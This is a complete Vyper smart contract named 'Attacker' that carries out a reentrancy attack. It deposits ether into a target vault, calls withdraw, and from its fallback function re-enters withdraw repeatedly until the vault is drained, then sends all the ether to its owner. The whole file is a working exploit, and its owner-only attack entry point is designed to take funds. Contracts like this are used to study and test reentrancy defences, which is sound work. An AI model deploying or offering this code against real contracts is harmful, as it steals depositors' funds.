#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Attacker
@license BSD-3-Clause
@notice Withdraws from a vault, and withdraws again while it is being paid.
"""


interface Vault:
    def deposit(): payable
    def withdraw(): nonpayable


# @dev Who gets the spoils.
owner: public(immutable(address))


# @dev The vault, while it is attacked.
vault: public(Vault)


# @dev Wei that each withdrawal is noted with.
stake: public(uint256)


# @dev Times that the vault was entered.
entries: public(uint256)


@deploy
def __init__():
    """
    @notice Makes the creator the owner.
    """
    owner = msg.sender


@external
@payable
def attack(target: address):
    """
    @notice Deposits what is sent, withdraws as often as the vault pays, and hands all
            of it to the owner.
    """
    assert msg.sender == owner, "attacker: caller is not the owner"
    self.vault = Vault(target)
    self.stake = msg.value
    self.entries = 1
    extcall self.vault.deposit(value=msg.value)
    extcall self.vault.withdraw()
    raw_call(owner, b"", value=self.balance)


@external
@payable
def __default__():
    """
    @notice Runs when the vault pays, before the vault can note it.
    """
    if self.vault.address.balance >= self.stake:
        self.entries += 1
        extcall self.vault.withdraw()
